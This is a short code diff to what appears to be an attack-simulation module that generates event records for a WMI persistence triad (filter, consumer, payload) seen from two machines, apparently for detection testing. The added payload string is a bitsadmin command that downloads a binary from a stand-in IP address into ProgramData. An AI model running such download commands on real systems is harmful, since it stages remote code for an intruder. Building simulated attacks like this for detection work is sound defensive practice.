@@ -105,7 +105,9 @@ export function remoteTriad(enterprise: Enterprise, plan: AttackPlan): Simulated
 /** A triad written while one account is logged on from two machines: no record tells which of them wrote it. */
 export function twoCandidates(enterprise: Enterprise, plan: AttackPlan, other: SimulatedHost): SimulatedAttack {
   const out: EventModel[] = [];
-  const names = { filter: 'TwoWaysFilter', consumer: 'TwoWays', payload: CRADLE };
+  // Other content than the other triad's: equal content on two machines is one case.
+  const payload = 'cmd.exe /c bitsadmin /transfer two http://203.0.113.46/t.bin C:\\ProgramData\\t.bin';
+  const names = { filter: 'TwoWaysFilter', consumer: 'TwoWays', payload };
   const controller = enterprise.controller;
   const caller = toolOf(out, plan, POWERSHELL, `"${POWERSHELL}"`);
   dcomCall(out, plan.time, { ...plan, caller, controller });
